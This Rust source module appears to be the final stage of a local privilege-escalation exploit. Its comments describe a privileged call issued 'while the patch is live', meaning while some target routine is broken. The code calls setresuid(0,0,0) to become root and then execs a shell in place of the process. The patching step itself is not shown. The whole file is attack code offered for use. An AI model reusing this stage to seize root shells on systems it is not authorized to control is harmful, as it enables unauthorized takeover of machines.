//! The privileged call issued while the patch is live, and the shell handoff after it

use std::io;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;

/// A privileged operation that is only granted while the target routine is broken
pub trait Elevation {
    /// Issues the call
    fn elevate(&mut self) -> io::Result<()>;
}

/// `setresuid(0, 0, 0)`
#[derive(Debug, Clone, Copy, Default)]
pub struct SetResUid;

impl Elevation for SetResUid {
    fn elevate(&mut self) -> io::Result<()> {
        // Safety: setresuid has no memory-safety preconditions
        if unsafe { libc::setresuid(0, 0, 0) } == 0 {
            Ok(())
        } else {
            Err(io::Error::last_os_error())
        }
    }
}

/// Replaces the process with `shell`.
///
/// Only returns if the exec failed.
pub fn exec_shell(shell: &Path) -> io::Error {
    Command::new(shell).exec()
}
